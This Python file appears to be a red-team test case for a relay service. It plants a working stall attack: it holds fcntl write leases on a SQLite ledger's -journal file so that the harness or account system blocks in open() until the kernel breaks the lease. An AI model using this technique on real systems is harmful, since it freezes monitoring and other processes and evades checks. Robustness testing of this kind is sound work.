"""Red team, class 6 (a regular file that makes the reader wait): a write lease on the ledger's -journal.

The harness and the account system open the ledger only when it and its -wal and -shm are regular files; SQLite
then also opens `LEDGER_PATH-journal` whenever one is there (its hot-journal check, on every read of a
rollback-mode database), with a blocking open(). This relay keeps its ledger in rollback mode with
journal_mode=PERSIST (the -journal stays, zeroed) and, for 15 s after the second serve of a stack starts, holds a
write lease (fcntl F_SETLEASE) on the -journal: a regular file, owned by the relay, that no one else holds
open. Whoever opens it then blocks until the lease holder lets go, or until the kernel breaks the lease
(lease-break-time, 45 s). The relay's own commands take their turn through a lock in /tmp, so the SIGIO that
announces a waiting opener comes from a reader outside the relay: it never lets go, the kernel does.
"""

import errno
import fcntl
import os
import signal
import sqlite3
import sys
import threading
import time

from .evidence import Attack, emit, first_time, is_serve, scratch, whoami
from .reference.__main__ import main
from .reference.ledger import SCHEMA, Ledger

NAME = "ledger_lease"
ATTEMPTS = ("journal-lease",)
A = Attack(NAME)
ARMED_S, CYCLE_S = 15.0, 0.02
BREAK_S = int(open("/proc/sys/fs/lease-break-time").read())
F_SETLEASE, F_WRLCK, F_UNLCK = 1024, fcntl.F_WRLCK, fcntl.F_UNLCK
broken = threading.Event()  # SIGIO: someone opened the leased file


class TurnLedger(Ledger):
    """The reference ledger in rollback mode (PERSIST), each statement taking its turn with the lease holder."""

    def __init__(self, path: str):
        self.path = path
        self.turn = os.open(scratch("rt-lease-turn.lock"), os.O_CREAT | os.O_RDWR, 0o600)
        self.raw = sqlite3.connect(path, timeout=10.0, isolation_level=None, check_same_thread=False)
        self.db = self
        self.execute("PRAGMA busy_timeout = 10000")
        self.execute("PRAGMA journal_mode = PERSIST")
        self.execute(SCHEMA)

    def execute(self, sql: str, params=()):
        fcntl.flock(self.turn, fcntl.LOCK_SH)
        try:
            cursor = self.raw.execute(sql, params)
            return _Rows(cursor.fetchall(), cursor.rowcount)
        finally:
            fcntl.flock(self.turn, fcntl.LOCK_UN)


class _Rows:
    """A cursor's rows, read while the statement had its turn."""

    def __init__(self, rows: list, rowcount: int):
        self.rows, self.rowcount = rows, rowcount

    def fetchone(self):
        return self.rows[0] if self.rows else None

    def fetchall(self):
        return self.rows


def lease_once(journal: str, turn: int) -> float | None:
    """Take the lease for one cycle; the time a foreign opener was held (None: no one came)."""
    fcntl.flock(turn, fcntl.LOCK_EX)  # none of the relay's own statements runs meanwhile
    try:
        fd = os.open(journal, os.O_RDONLY)
        try:
            try:
                fcntl.fcntl(fd, F_SETLEASE, F_WRLCK)
            except OSError as e:
                if e.errno != errno.EAGAIN:  # not "someone has the file open right now": the lease is refused
                    raise
                return None
            broken.clear()
            if broken.wait(CYCLE_S):  # someone waits in open(): never let go, the kernel breaks it in its time
                started = time.monotonic()
                time.sleep(min(BREAK_S, 90) + 0.5)
                try:
                    fcntl.fcntl(fd, F_SETLEASE, F_UNLCK)
                except OSError:
                    pass  # broken by the kernel already
                return time.monotonic() - started
            fcntl.fcntl(fd, F_SETLEASE, F_UNLCK)
            return None
        finally:
            os.close(fd)
    finally:
        fcntl.flock(turn, fcntl.LOCK_UN)
        time.sleep(0.002)  # the relay's own statements' turn


def attack() -> None:
    journal = os.environ["LEDGER_PATH"] + "-journal"
    turn = os.open(scratch("rt-lease-turn.lock"), os.O_CREAT | os.O_RDWR, 0o600)
    deadline = time.monotonic() + ARMED_S
    while not os.path.exists(journal) and time.monotonic() < deadline:
        time.sleep(0.05)
    if not os.path.exists(journal):
        A.refused("journal-lease", "no -journal appeared (the ledger was never written)")
        return
    emit(f"{NAME}: holding a write lease on {journal} for {ARMED_S:g} s")
    longest = 0.0
    while time.monotonic() < deadline:
        try:
            held = lease_once(journal, turn)
        except OSError as e:
            A.refused("journal-lease", f"F_SETLEASE: {e.strerror}")
            return
        if held is not None and longest == 0.0:
            longest = held
            A.achieved(
                "journal-lease",
                f"a reader of the ledger (the harness or the account system) opened {journal}, "
                f"a regular file no check looks at, under the relay's write lease: it waited "
                f"in open() until the kernel broke the lease ({held:.0f} s, lease-break-time "
                f"{BREAK_S} s)",
            )
        if longest:
            return  # one reader held for the kernel's whole lease-break-time is the point
    if longest == 0.0:
        A.refused("journal-lease", f"no reader opened the -journal during {ARMED_S:g} s of leases")


if __name__ == "__main__":
    whoami(NAME, sys.argv[1])
    signal.signal(signal.SIGIO, lambda *_: broken.set())
    if is_serve(sys.argv[1:]) and not first_time(NAME) and first_time(f"{NAME}-armed"):
        A.background(attack, delay_s=0.3)
    sys.exit(main(sys.argv[1:], ledger_cls=TurnLedger))
